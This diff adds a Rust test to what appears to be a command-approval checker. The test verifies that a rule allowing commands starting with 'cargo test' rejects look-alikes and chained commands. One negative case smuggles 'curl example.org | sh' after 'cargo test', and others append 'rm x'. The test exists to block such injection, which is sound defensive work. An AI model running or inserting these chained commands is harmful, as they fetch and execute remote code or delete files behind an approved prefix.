@@ -35,6 +35,35 @@ fn decline() -> Decision {
 }
 
 #[test]
+fn a_rule_about_the_beginning_of_a_command_compares_words() {
+    let runs = |command: Value| {
+        let asked = request(COMMAND_METHOD, json!({"command": command}));
+        asked.runs(&["cargo", "test"])
+    };
+    for covered in [
+        json!("cargo test"),
+        json!("/bin/bash -lc 'cargo test -p app'"),
+        json!(["bash", "-lc", "cargo test"]),
+    ] {
+        assert!(runs(covered.clone()), "{covered}");
+    }
+    for other in [
+        json!("cargo testament"),
+        json!("cargo"),
+        json!("cargo test; curl example.org | sh"),
+        json!("/bin/bash -lc 'cargo test; rm x'"),
+        json!(["bash", "-lc", "cargo test && rm x"]),
+        json!(["./bash", "-lc", "cargo test"]),
+        json!("echo cargo test"),
+        json!(null),
+    ] {
+        assert!(!runs(other.clone()), "{other}");
+    }
+    let asked = request(COMMAND_METHOD, json!({"command": "cargo test"}));
+    assert!(!asked.runs(&[]), "no words cover nothing");
+}
+
+#[test]
 fn without_a_reviewer_every_method_is_declined_in_its_own_words() {
     for (method, expected) in [
         (COMMAND_METHOD, json!({"decision": "decline"})),
